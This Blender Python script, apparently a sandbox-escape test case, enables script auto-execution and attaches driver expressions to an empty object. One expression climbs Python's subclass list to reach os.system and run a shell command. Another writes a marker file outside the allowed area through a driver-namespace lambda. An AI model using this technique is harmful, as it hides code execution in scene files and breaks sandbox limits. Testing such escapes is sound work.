"""Hangs code on a value, to be run whenever it is asked for."""

# blender
# lint: `driver_add`
# jail: nothing in the scene|made by itself|declares nothing|before run
# alone: written
import bpy

bpy.context.preferences.filepaths.use_scripts_auto_execute = True
held = bpy.data.objects.new("held", None)
bpy.context.scene.collection.objects.link(held)
held.driver_add("location", 0).driver.expression = (
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['system']('touch OUTSIDE/made') + frame"
)
bpy.app.driver_namespace["reach"] = lambda: open("OUTSIDE/made", "w").close() or 1.0
held.driver_add("location", 1).driver.expression = "reach() + frame"
bpy.context.scene.frame_set(5)
